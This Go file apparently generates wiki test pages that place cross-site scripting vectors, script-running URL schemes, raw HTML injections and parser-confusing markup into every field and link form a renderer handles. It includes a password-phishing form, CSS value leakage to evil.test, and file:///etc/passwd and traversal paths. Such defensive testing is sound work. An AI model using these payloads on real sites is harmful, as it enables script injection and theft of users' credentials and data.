package serve

import (
	"fmt"
	"strconv"
	"strings"
)

// In all hostile texts JS! stands for a script that says that it ran: see [payload.arm].

// vectors break out of what a text is put into: elements, attributes, comments, scripts, JSON,
// templates, addresses. None holds a line end, so that each fits into a title.
var vectors = []string{
	`<img src=x onerror=JS!>`, `"><img src=x onerror=JS!>`, `'><svg/onload=JS!>`, `</title><script>JS!</script>`, `</script><script>JS!</script>`,
	`--><script>JS!</script><!--`, `javascript:JS!`, `" onmouseover=JS! autofocus onfocus=JS! x="`, `' onfocus=JS! autofocus tabindex=0 x='`, "` onclick=JS! x=`",
	`</textarea></style></noscript></template></xmp><svg onload=JS!>`, `{{constructor.constructor('JS!')()}}{% JS! %}<%= JS! %>`, "\u2028JS!//\u2029JS!//",
	`]]><script>JS!</script>`, `&lt;img src=x onerror=JS!&gt;&#60;script&#62;JS!&#60;/script&#62;`, "${JS!}`;JS!;`", `\";JS!//`, `";JS!;"`, `\u003cimg src=x onerror=JS!\u003e`,
	`data:text/html,<script>JS!</script>`, `//evil.test/%2e%2e/?<base href=//evil.test/>`, `<a href="javascript&colon;JS!">l</a>`, "\t<\x00script>JS!</script>", `<!--[if true]><script>JS!</script><![endif]-->`,
	`+ADw-script+AD4-JS!+ADw-/script+AD4-`, `<iframe srcdoc="<script>JS!</script>">`, `</h1></article></main><form action=https://evil.test><input name=q autofocus>`, `<style>@import url(https://evil.test/a.css);*{display:none}</style>`,
	`__proto__`, `<svg><script href=data:,JS! />`, "\u202e<script>JS!</script>", `%3Cscript%3EJS!%3C/script%3E`, `＜script＞JS!＜/script＞`, `<math><mtext></form><form><mglyph><style></math><img src onerror=JS!>`,
}

// surfaces puts one vector wherever a page has a text.
func surfaces(n int, v string) string {
	q := strconv.Quote(v)
	plain := strings.NewReplacer("`", "'", "|", "¦", "\t", " ", "\x00", "").Replace(v)
	word := strings.NewReplacer(" ", "_", "]", ")", "[", "(").Replace(plain)
	var b strings.Builder
	fmt.Fprintf(&b, "---\ntitle: %[1]s\nsummary: %[1]s\ntype: %[1]s\nstatus: %[1]s\nlang: %[1]s\nlanguage: %[1]s\ndir: %[1]s\nauthor: %[1]s\ntags: [%[1]s, plain%[2]d]\naliases: [%[1]s, other%[2]d]\n"+
		"cssclasses: [%[1]s, seek]\nlayout: %[1]s\nimage: %[1]s\nverified: %[1]s\nreview: %[1]s\nupdated: %[1]s\ndescription: %[1]s\nsuperseded_by: %[1]s\n"+
		"sources: [%[1]s, {url: %[1]s, title: %[1]s}, \"javascript:JS!\", \"https://media.test/\\\"onmouseover=JS!\"]\n%[1]s: %[1]s\n---\n", q, n)
	fmt.Fprintf(&b, "# %[1]s\n\nMARKin%[2]d %[1]s **%[1]s** *%[1]s* ~~%[1]s~~ ==%[1]s== `%[3]s` \\%[1]s\n\n", v, n, plain)
	fmt.Fprintf(&b, "## %[1]s\n\n### [%[1]s](%[1]s)\n\n#### ![%[1]s](<%[1]s> \"%[1]s\") {#%[2]s .seek onclick=JS! style=position:fixed}\n\n%[1]s\n===\n\n", v, word)
	fmt.Fprintf(&b, "[%[1]s](<%[1]s>) [l](%[1]s) [l](<x> '%[1]s') ![a](<%[1]s>) ![%[1]s](pic.png \"%[1]s\") ![%[1]s](pic.png '%[1]s') [%[1]s][r%[2]d] <%[3]s> [[%[1]s]] [[page%[2]d|%[1]s]] ![[%[1]s]] ![[pic.png|%[1]s]] [[#%[1]s]] [[%[1]s#%[1]s|x]]\n\n[r%[2]d]: <%[1]s> \"%[1]s\"\n\n", v, n, word)
	fmt.Fprintf(&b, "```%[1]s\n%[1]s\n```\n\n~~~js {%[1]s}\n%[1]s\n~~~\n\n```mermaid\ngraph TD; A[\"%[1]s\"]-->B(%[1]s); click A \"javascript:JS!\" \"%[1]s\"; click B href \"javascript:JS!\"\n%%%%{init: {'securityLevel': 'loose', 'themeCSS': '%[1]s'}}%%%%\n```\n\n```math\n%[1]s \\href{javascript:JS!}{x} \\url{javascript:JS!} \\htmlData{x=%[1]s}{y} \\includegraphics{%[1]s}\n```\n\n$$\n%[1]s \\class{seek}{x} \\style{position:fixed}{y} \\unicode{<img src=x onerror=JS!>}\n$$\n\n$%[1]s$ $`%[2]s`$ \\(%[1]s\\)\n\n", v, plain)
	fmt.Fprintf(&b, "Note[^%[2]s] and[^n%[3]d] and^[%[1]s].\n\n[^%[2]s]: %[1]s\n[^n%[3]d]:\n    %[1]s\n\n    > %[1]s\n\n", v, word, n)
	fmt.Fprintf(&b, "| %[1]s | b |\n|---|:-:|\n| %[1]s | `%[1]s` |\n\n> [!%[2]s]- %[1]s\n> %[1]s\n\n> [!note]+ %[1]s\n> - [x] %[1]s\n> - [%[3]s] y\n\n- %[1]s\n  1. %[1]s\n\nTerm %[1]s\n: %[1]s\n\n", plain, word, firstRune(plain))
	fmt.Fprintf(&b, "A block. ^%[1]s\n\n#%[1]s #tag/%[1]s @%[1]s [@%[1]s] [source: %[2]s] (%[2]s:3) %%%%%[2]s%%%%\n\n<!-- %[2]s -->\n\n<!-- wiki: ignore %[2]s -->\n\n<details><summary>%[2]s</summary>\n\n%[2]s\n\n</details>\n\n<p title=\"%[2]s\" id='%[2]s' name=%[1]s>%[2]s</p>\n\n", word, v)
	fmt.Fprintf(&b, "UNSURE about %[1]s.\n\nDISPUTED %[1]s\n", plain)
	return b.String()
}

func firstRune(s string) string {
	for _, r := range s {
		return string(r)
	}
	return " "
}

// schemes are addresses that run or load something, in the forms that browsers read as such.
var schemes = []string{
	`javascript:JS!`, `JaVaScRiPt:JS!`, `java&#10;script:JS!`, `java&Tab;script:JS!`, `&#1;javascript:JS!`, `&#x20;javascript:JS!`, `javascript&colon;JS!`, `&#106;avascript:JS!`, `&#x6A&#x61vascript:JS!`, `java%0Ascript:JS!`,
	"\x01javascript:JS!", `javascript://%0aJS!`, `javascript://evil.test/%0d%0aJS!`, `javascript:/*--></title></style>*/JS!`, `feed:javascript:JS!`, `view-source:javascript:JS!`, `jar:javascript:JS!`, `javascript\:JS!`, `javascript\x3aJS!`,
	`vbscript:JS!`, `livescript:JS!`, `mocha:JS!`, `data:text/html,<script>JS!</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCg2NjYwMDAwKTwvc2NyaXB0Pg==`, `data:,JS!`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS!'/>`,
	`data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoNjY2MDAwMCkiLz4=`, `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>JS!</script></html>`, `data:text/xml,<x/>`, `data:image/png,x" onerror=JS! x="`,
	`DATA:TEXT/HTML,<svg onload=JS!>`, `blob:null/1-2-3`, `filesystem:http://127.0.0.1/temporary/x`, `about:blank#<script>JS!</script>`, `about:srcdoc`, `chrome://crash`, `file:///etc/passwd`, `res://x`, `mhtml:x.mht!x`, `ms-its:x::y`, `intent://x#Intent;scheme=javascript;end`,
	`?"onmouseover=JS!`, `#"><script>JS!</script>`, `./javascript:JS!`, `x/../javascript:JS!`, `../../../../../../etc/passwd`, `\\javascript:JS!`, "\u00a0javascript:JS!", "\u2028javascript:JS!", `javascript` + "\u200b" + `:JS!`, `ｊavascript:JS!`, `:javascript:JS!`, `//javascript:JS!`, `/javascript:JS!`,
}

// linkForms put an address wherever a page has one. Images of other hosts are the page's own
// media, and so stand for themselves elsewhere.
var linkForms = []string{
	`[l](%s)`, `[l](<%s>)`, `[l](%s "t")`, "[l][d]\n\n[d]: %s", "[d2]\n\n[d2]: <%s> 't'", `<%s>`, `[[%s]]`, `[[%s|l]]`, `![[%s]]`, `![a](%s)`, `![a](<%s>)`, `[![a](pic.png)](%s)`, `<a href="%s">l</a>`, `<a href='%s'>l</a>`, `<a href=%s>l</a>`, `<A HREF = "%s" >l</A>`,
	`<a title=">" href="%s">l</a>`, `<a x href="#" href="%s">l</a>`, `<img src="%s">`, `<img src=%s alt=x>`, `<a xlink:href="%s" href="%s">l</a>`, `<q cite="%s">q</q>`, `<svg width=9><a href="%s"><text>x</text></a></svg>`, `<svg><use href="%s" xlink:href="%s"/></svg>`, `<area href="%s">`,
	`<form action="%s"><button formaction="%s">b</button><input type=submit formaction="%s"></form>`, `<iframe src="%s"></iframe>`, `<object data="%s"></object>`, `<embed src="%s">`, `<math href="%s"><mi xlink:href="%s">x</mi></math>`, `<base href="%s">`, `<meta http-equiv=refresh content="0;url=%s">`, `<link rel=stylesheet href="%s">`,
	`<svg><image href="%s"/><feImage href="%s"/></svg>`, `<rect fill="url(%s)"/>`, `<svg><rect fill="url(%s)"/></svg>`, `<video src="%s" poster="%s"><source src="%s"><track src="%s"></video>`, `<table background="%s"><td background="%s">x</table>`, `<body background="%s">`,
	"$\\href{%s}{x}$", "```mermaid\ngraph TD; A-->B; click A \"%s\"\n```", "x[^f]\n\n[^f]: [l](%s)", "| a |\n|---|\n| [l](%s) |", "> [!note] [l](%s)", "# [l](%s)",
}

// schemePages puts every scheme into every form of link: one page for each form.
func schemePages(files map[string]string) {
	for i, form := range linkForms {
		var b strings.Builder
		fmt.Fprintf(&b, "# Form %d\n\nMARKform%d\n", i, i)
		for j, s := range schemes {
			text := strings.ReplaceAll(form, "%s", s)
			text = strings.NewReplacer("[d]", fmt.Sprintf("[d%d]", j), "[d2]", fmt.Sprintf("[e%d]", j), "[^f]", fmt.Sprintf("[^f%d]", j)).Replace(text)
			b.WriteString("\n" + text + "\n")
		}
		files[fmt.Sprintf("wiki/form%02d.md", i)] = b.String()
	}
	var b strings.Builder
	b.WriteString("---\ntitle: Sources\nsources:\n")
	for _, s := range schemes {
		fmt.Fprintf(&b, "  - %[1]s\n  - {url: %[1]s, title: t}\n", strconv.Quote(s))
	}
	b.WriteString("---\n# Sources\n\nText.\n")
	files["wiki/sources.md"] = b.String()
}

// rawHTML are elements and attributes that run, load, frame, post or cover something.
var rawHTML = []string{
	`<script>JS!</script>`, `<ScRiPt >JS!</sCrIpT >`, `<script/x>JS!</script>`, `<script src=x.js></script>`, `<script type=module src=x.mjs></script>`, `<script src="data:,JS!"></script>`, `<script language=vbs>JS!</script>`, `<script type=importmap>{}</script>`, `<script type=speculationrules>{"prerender":[{"urls":["https://evil.test/"]}]}</script>`,
	`<scr<script>ipt>JS!</script>`, `<<script>JS!//<</script>`, `<script` + "\x0c" + `>JS!</script>`, `<script` + "\n" + `>JS!</script>`, `<img src=x onerror=JS!>`, `<img src=x oNeRrOr = JS!>`, `<img/src=x/onerror=JS!>`, `<img src=x:x onerror` + "\n" + `=JS!>`, `<img """><script>JS!</script>">`, `<img src='x' onerror='JS!'alt='a'>`, "<img src=`x` onerror=`JS!`>", `<img src=x a=">" onerror=JS!>`,
	`<img srcset="x 1x" onerror=JS!>`, `<img src=pic.png onload=JS!>`, `<img style="x:expression(JS!)">`, `<img src=pic.png name=getElementById id=querySelector>`, `<svg onload=JS!>`, `<svg/onload=JS!>`, `<svg><script>JS!</script></svg>`, `<svg><script href="data:,JS!"/></svg>`, `<svg><script xlink:href="data:,JS!"/></svg>`,
	`<svg><g onclick=JS! onfocusin=JS! tabindex=0><text>x</text></g></svg>`, `<body onload=JS!>`, `<body onpageshow=JS!>`, `<html onmouseover=JS!>`, `<details open ontoggle=JS!>x</details>`, `<video><source onerror=JS!></video>`, `<video src=x onerror=JS!>`, `<audio src=x onerror=JS!>`, `<input autofocus onfocus=JS!>`, `<select autofocus onfocus=JS!>`, `<textarea autofocus onfocus=JS!>`, `<keygen autofocus onfocus=JS!>`, `<marquee onstart=JS!>x</marquee>`,
	`<a onfocus=JS! autofocus tabindex=1 href=#>x</a>`, `<div onpointerover=JS! style="position:fixed;inset:0;z-index:99">x</div>`, `<p onanimationstart=JS! style="animation:x 1s">x</p>`, `<p oncontentvisibilityautostatechange=JS! style=content-visibility:auto>x</p>`, `<button popovertarget=p>b</button><p popover id=p onbeforetoggle=JS!>x</p>`, `<xss contenteditable autofocus onfocus=JS!>x`,
	`<iframe src="javascript:JS!"></iframe>`, `<iframe srcdoc="<script>JS!</script>"></iframe>`, `<iframe src=https://evil.test/></iframe>`, `<iframe name=top src=x.html></iframe>`, `<frameset><frame src="javascript:JS!"></frameset>`, `<object data="x.html"></object>`, `<object data="data:text/html,<script>JS!</script>" type=text/html></object>`, `<object type="text/x-scriptlet" data=x.html>`, `<embed src=x.svg>`, `<embed src="data:image/svg+xml,<svg onload=JS! xmlns=http://www.w3.org/2000/svg/>">`, `<applet code=x>`, `<portal src=https://evil.test></portal>`, `<fencedframe src=https://evil.test></fencedframe>`,
	`<meta http-equiv=refresh content="0;url=https://evil.test/">`, `<meta http-equiv="Set-Cookie" content="a=b">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`, `<base href=https://evil.test/>`, `<base target=_blank>`, `<link rel=stylesheet href=https://evil.test/a.css>`, `<link rel=stylesheet href=x.css>`, `<link rel=import href=x.html>`, `<link rel=preload as=script href=x.js>`, `<link rel=modulepreload href=x.js>`,
	`<link rel=prefetch href=https://evil.test/>`, `<link rel=dns-prefetch href=//evil.test>`, `<link rel=preconnect href=https://evil.test>`, `<link rel=prerender href=https://evil.test/>`, `<link rel=manifest href=x.webmanifest>`, `<link rel=icon href=https://evil.test/i.ico>`, `<style>@import "https://evil.test/a.css";</style>`, `<style>body{background:url(https://evil.test/b)}input[value^=a]{background:url(https://evil.test/c)}header{display:none}</style>`, `<p style="background:url(https://evil.test/d)">x</p>`,
	`<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red">x</p>`, `<div class="seek" style="inset:0">x</div>`, `<dialog open>x</dialog>`, `<form action=https://evil.test/><input name=password type=password><button>log in</button></form>`, `<form id=x></form><button form=x formaction="javascript:JS!">b</button>`, `<isindex action="javascript:JS!" type=image>`, `<input type=image src=x formaction="javascript:JS!">`, `<a href=# ping=https://evil.test/ping>x</a>`, `<a href=x.html download=a.exe target=_blank>x</a>`,
	`<map name=m><area shape=rect coords=0,0,999,999 href="javascript:JS!"></map><img usemap=#m src=pic.png>`, `<template><script>JS!</script></template>`, `<div><template shadowrootmode=open><script>JS!</script><slot></slot></template></div>`, `<noscript><p title="</noscript><img src=x onerror=JS!>"></noscript>`, `<math><mi xlink:href="javascript:JS!">x</mi></math>`, `<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:JS!">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>JS!</script></annotation-xml></math>`,
	`<bgsound src="javascript:JS!">`, `<layer src=x.html>`, `<xml id=x src=x.xml>`, `<?xml-stylesheet href="javascript:JS!"?>`, `<?php JS! ?>`, `<!DOCTYPE html><script>JS!</script>`, `<![CDATA[<script>JS!</script>]]>`, `<!ENTITY x "JS!">`, `<% JS! %>`, `<comment><script>JS!</script></comment>`, `<custom-element onconnected=JS! is=x>x</custom-element>`, `<selectedcontent><img src=x onerror=JS!></selectedcontent>`, `<permission onclick=JS!>`, `<p is=x part=y slot=z>x</p>`, `<p id=content name=content class="find seek top">x</p>`,
	`<img srcset="https://evil.test/a 1x, https://evil.test/b 2x">`, `<picture><source srcset=https://evil.test/c><img src=pic.png></picture>`, `<img src=pic.png lowsrc=https://evil.test/d dynsrc=https://evil.test/e longdesc="javascript:JS!">`, `<input type=image src=https://evil.test/f>`, `<table background=https://evil.test/g><tr background=https://evil.test/h><td background=https://evil.test/i>x</table>`, `<svg><image href=https://evil.test/j /><use href=https://evil.test/k#x /></svg>`,
}

// swallowers are what a browser reads otherwise than it is written, so that it may end up
// beside where it stands: each makes a page of its own.
var swallowers = []string{
	`<table><table><table><table></table></table></table></table>`, `<table><tr><td><table><tr><td>x`, `<table><p>x<tr><p>y<td><p>z`, `<table>MARKfoster<tr>MARKfoster2<td>x</table>`, `<table><caption><table><tr><td>x</table>`, `<table></div></div></article></main>x</table>`, `<table><colgroup><table><col>x`, `<table><tbody><div><details open><summary>x`, `<table><ul><li><table><li>x`,
	`<table><h1>x<h2>y<table>z`, `<table><thead><p><table><tfoot><blockquote>x`, `<p><table><p><table><p>x`, `<a href=#><table><a href=#>x<table><a href=#>`, `<b><table><b><i><tr><b><td>x`, `<table><hr><br><img src=pic.png><svg></svg>x`, `<table><input type=hidden><input><form><tr>`, `<table><select><table><option>x`, `<table><svg><table><tr><td>x`, `<table><math><table><tr>x`, `<table><template><tr><table></template>x`, `<table><style>x</table>`, `<table><script>x</table>`,
	`</article>x`, `</div></div></div></main></body></html>x`, `</p></p></p>x</p>`, `</br></br>x`, `<div></div></div></div><p>x`, `<li>x<li>y<dd>z<dt>`, `<details><summary><details><summary>x`, `<summary>x<details>y`, `<ul><li></ul></ul></li></article>x`, `<h1><h2><h3>x</h1>`, `<p><h1><p><ul><p><pre>x`, `<pre>` + "\n\n" + `x<pre>`, `<b><i><u></b></i></u><p><b><p></b>x`, `<a href=#a><p><a href=#b><div><a href=#c>x`,
	`<svg>x`, `<svg><p>x`, `<svg><desc><p>x</svg>`, `<svg><title><p>x</title></svg>`, `<svg><foreignObject><p>x`, `<svg><text><tspan><b>x`, `<math><p>x`, `<math><mtext><p>x</math>`, `<svg></p></svg><p>x`, `<svg><style><p>x</style></svg>`, `<svg><a><p>x`, `<svg><defs><svg><br>x`, `<svg><g></div></article>x`, `<svg><![CDATA[x]]><p>y`,
	`<plaintext>x`, `<xmp>x`, `<listing>x`, `<textarea>x`, `<title>x`, `<style>x`, `<script>x`, `<noscript>x`, `<noembed>x`, `<noframes>x`, `<iframe>x`, `<template>x`, `<select>x<p>y`, `<select><option><select><img>x`, `<optgroup><option>x`, `<button>x<button>y<p>z`, `<form><form><p></form>x`, `<frameset>x`, `<body class=y><html lang=z><head><body>x`, `<ruby><rb>a<rt>b<rp><rtc>c<p>x`, `<marquee><object><applet><p></marquee></object>x`, `<nobr><nobr><p><nobr>x`, `<image src=pic.png>x`, `<col><tr><td><th><tbody><caption>x`,
	`<!-- x`, `<!-->x-->y`, `<!--->x-->y`, `<!--x--!>y-->z`, `<!-- <!-- --> --> x`, `<!x><p>y`, `</ x><p>y`, `<?x><p>y?>z`, `<![CDATA[x]]><p>y`, `<![if x]><p>y<![endif]>`, `<!doctype x "><p>y">z`, `<p title="x` + "\n\n" + `y">z`, `<p title='<!--'>x<!--'-->`, "<p title=`>`x", `<p a="1"b='2'c=3d>x`, `<p/a/b=c/>x</p/>`, "<p\x00a>x</\x00p>", `<p ="x">y`, `<p "x">y`, `<a<b>x</a<b>`, `<p>&lt/p&gt&ltscript&gtx`, `<p` + "\n" + `>x</p` + "\n" + `>y`,
	"> <div>\n\nx\n\n> </div></div>", "- <table>\n- <tr>\n- <td>x", "1. <details>\n\n   <summary>x\n\n2. </details></details>", "| <table> | <tr> |\n|---|---|\n| <td></td></table> | </tr></div> |", "# <table><tr><td>x", "## <details><summary>x\n\ny", "## </h2></article><p>x", "[<table>](x) [</article>](x)", "![<table>](pic.png)", "x[^1]\n\n[^1]: </li></ol></section></article>y", "x[^1]\n\n[^1]: <table><p>y", "> [!note]- </summary></details><table>\n> <p>x", "```html\n</code></pre></article>x\n```", "$$\n</div></article>x\n$$", "<details>\n\n```\n</details>\n```\n\n<table>\n\n- x\n\n</table>\n\n</details>", "*<table>*x**</table>**", "<table>\n\n| a |\n|---|\n| b |\n\n<table>\n\n# x\n\n</table>", "%%<table>%%x <!--%%--></div>", "![[index]]<table>![[index]]</div>", "^[<table>x</li></ol>]", "==<table>== ~~</article>~~ `x` <kbd><p>y",
}

func swallowerPages(files map[string]string) {
	files["wiki/index.md"] = "# Start\n\nText of the start.\n"
	for i, s := range swallowers {
		files[fmt.Sprintf("wiki/m%03d.md", i)] = fmt.Sprintf("# Fragment %[1]d\n\nMARKa%[1]d\n\n%[2]s\n\nMARKb%[1]d <b>MARKc%[1]d</b>\n\n%[3]s\n", i, s, ending(s, fmt.Sprintf("MARKend%d", i)))
	}
}

// ending is the last paragraph of a page, which a construct without an end may swallow.
func ending(s, mark string) string {
	for _, open := range []string{"<!-- x", "<style>", "<script>", "<textarea>", "<pre>", "<!doctype", "<?x", "<![CDATA", "<!x", "%%"} {
		if strings.Contains(s, open) {
			return "And MARKlast."
		}
	}
	return mark
}
